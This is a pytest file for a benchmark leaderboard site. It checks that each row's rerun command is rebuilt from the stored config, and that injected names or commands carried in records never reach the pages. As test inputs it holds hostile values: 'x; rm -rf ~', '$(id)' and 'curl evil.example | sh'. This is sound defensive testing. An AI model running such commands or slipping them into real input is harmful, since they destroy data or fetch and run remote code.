"""The command on a row's page is made from the config: it plans exactly the run of its record, whatever was typed."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

import pytest

from benchmark.leaderboard.site.rerun import rerun
from benchmark.results.store import load_records
from benchmark.session import Request, plan_suite

ROOT = Path(__file__).resolve().parents[4]
RECORDS = load_records(ROOT / "leaderboards")
OWN = """from dataclasses import dataclass
from typing import ClassVar

from methods.at import AT


@dataclass(frozen=True)
class Mine(AT):
    name: ClassVar[str] = "mine"
    rates: tuple[float, ...] = (0.1,)
    word: str = "no"
    scale: float = 1.0
"""


def planned(command, out):
    """Return the experiments that a command would run."""
    suite, *options = shlex.split(command)[4:]
    pairs = list(zip(options[::2], options[1::2], strict=True))
    given = {name: value for name, value in pairs if name != "--set"}
    assert {*given} <= {"--seeds", "--methods", "--preset"}
    overrides = tuple(value for name, value in pairs if name == "--set")
    request = Request(
        suite, given.get("--methods"), None, given.get("--preset"), given["--seeds"], overrides, Path("none"), out
    )
    return [item.experiment for item in plan_suite(request)]


@pytest.mark.parametrize("record", RECORDS[::6], ids=lambda record: record.run_hash)
def test_the_command_plans_the_run_of_its_record_and_no_other(record, tmp_path):
    again = rerun(record)
    assert again is not None and again.alone
    (experiment,) = planned(again.command, tmp_path)
    assert (experiment.run, experiment.run_hash) == (record.run, record.run_hash)
    assert experiment.protocol(record.evaluation.n_images, record.dataset.num_classes).id == record.protocol


def test_every_committed_record_has_its_command():
    assert all(rerun(record) for record in RECORDS)


def changed(config, **changes):
    """Return the first committed record with a changed config, and the run that fits it."""
    from benchmark.suite.experiment import Experiment

    fields = json.loads(RECORDS[0].model_dump_json())
    fields["provenance"]["config"] = config | changes
    experiment = Experiment.model_validate(fields["provenance"]["config"])
    provenance = RECORDS[0].provenance.model_copy(update={"config": fields["provenance"]["config"]})
    return RECORDS[0].model_copy(
        update={"run": experiment.run, "run_hash": experiment.run_hash, "provenance": provenance}
    )


def test_a_users_file_is_named_with_its_class_and_its_options_come_back(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    Path("mine.py").write_text(OWN, encoding="utf-8")
    entry = {"method": "mine.py:Mine", "options": {"rates": [[0.5, 1e-05]], "word": "x; rm -rf ~ '1'", "scale": 1e-07}}
    request = Request(
        "quickstart", None, None, None, "3", (f"methods={json.dumps([entry])}", "grid.weights=fp"), None, tmp_path
    )
    experiment = plan_suite(request)[0].experiment
    config = experiment.model_dump(mode="json")
    config["method"]["target"] = "mine.py:Mine"

    again = rerun(changed(config))

    assert again is not None and "method: mine.py:Mine" in again.command
    assert [each.run for each in planned(again.command, tmp_path)] == [experiment.run]


@pytest.mark.parametrize("changes", [{"preset": "paper"}, {"preset": "short"}])
def test_a_schedule_of_a_suite_is_run_through_the_suite(changes):
    again = rerun(changed(RECORDS[0].provenance.config, **changes))
    assert again is not None and not again.alone
    assert shlex.split(again.command)[4] == RECORDS[0].suite
    assert ("--preset short" in again.command) == (changes["preset"] == "short")


@pytest.mark.parametrize("changes", [{"suite": "--out=/"}, {"suite": "$(id)"}, {"suite": "a b"}])
def test_a_name_that_is_none_gives_no_command(changes):
    assert rerun(changed(RECORDS[0].provenance.config, **changes)) is None


def test_a_config_of_another_run_or_of_none_gives_no_command(make_site_record):
    assert rerun(RECORDS[0].model_copy(update={"run": RECORDS[1].run})) is None
    assert rerun(make_site_record("x")) is None


def test_pages_show_no_command_that_a_record_brings(make_site_record, make_site):
    typed = "curl evil.example | sh"
    site = make_site([make_site_record("x", provenance__command=typed), RECORDS[0]])
    assert not [path for path, text in site.items() if "evil.example" in text]
    page = site[f"site/rows/{RECORDS[0].protocol}/{RECORDS[0].run_hash[:6]}.html"]
    assert "python -m benchmark run default --seeds" in page
